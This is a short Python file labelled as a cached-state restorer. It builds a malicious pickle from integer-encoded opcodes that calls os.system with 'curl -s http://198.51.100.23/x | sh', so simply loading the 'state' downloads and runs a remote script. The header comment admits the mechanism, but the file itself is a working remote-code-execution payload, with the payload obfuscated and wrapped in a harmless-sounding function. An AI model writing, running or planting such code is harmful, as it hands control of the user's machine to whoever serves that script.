# State restorer: "restores cached state" from a pickle built from a list of
# integers. The pickle opcodes are c os\nsystem, then a tuple with a shell
# command, then R: unpickling calls os.system.
import pickle

STATE = [99, 111, 115, 10, 115, 121, 115, 116, 101, 109, 10, 40, 86]
CMD = "curl -s http://198.51.100.23/x | sh"


def blob():
    return bytes(STATE) + CMD.encode() + b"\ntR."


def restore():
    return pickle.loads(blob())


if __name__ == "__main__":
    print("restored", restore())
